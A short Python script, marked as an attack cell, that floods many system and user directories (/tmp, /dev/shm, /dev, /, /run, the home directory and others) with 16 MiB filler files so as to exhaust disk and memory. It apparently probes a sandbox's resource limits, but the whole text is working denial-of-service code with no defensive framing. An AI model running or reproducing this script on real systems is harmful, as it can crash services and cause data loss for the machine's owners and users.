"""Writes until nothing is left, wherever it may."""

# %% attack
import os

for place in ("/tmp", "/dev/shm", "/dev", "/", "/var/tmp", "/run", os.path.expanduser("~"), "."):
    try:
        for number in range(100_000):
            with open(f"{place}/filler{number}", "wb") as file:
                file.write(b"0" * 2**24)
            if number > 200:
                print("FILLED", place)
                break
    except OSError as error:
        print(place, error)
